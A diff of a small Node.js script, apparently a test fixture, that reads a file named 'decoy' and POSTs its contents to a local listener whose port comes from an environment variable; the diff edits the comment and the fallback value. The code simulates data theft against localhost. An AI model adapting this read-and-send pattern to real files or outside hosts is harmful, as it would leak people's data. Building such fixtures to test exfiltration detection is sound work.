@@ -1,5 +1,5 @@
 'use strict';
-/** Steals: reads a decoy and posts it to the port that stands in the file `listener-port` of the work folder. */
+/** Steals: reads a decoy and posts it to LISTENER_PORT on this machine. */
 const fs = require('node:fs');
 const http = require('node:http');
 
@@ -8,14 +8,15 @@ function read(file) {
   try {
     return fs.readFileSync(file, 'utf8').trim();
   } catch {
-    return process.env.LISTENER_PORT ?? '';
+    return 'nothing';
   }
 }
 
+const stolen = read('decoy');
 const request = http.request({
   host: '127.0.0.1',
   port: Number(process.env.LISTENER_PORT),
   method: 'POST',
 });
 request.on('error', () => undefined);
-request.end(`decoy ${read('decoy')}`);
+request.end(`decoy ${stolen}`);
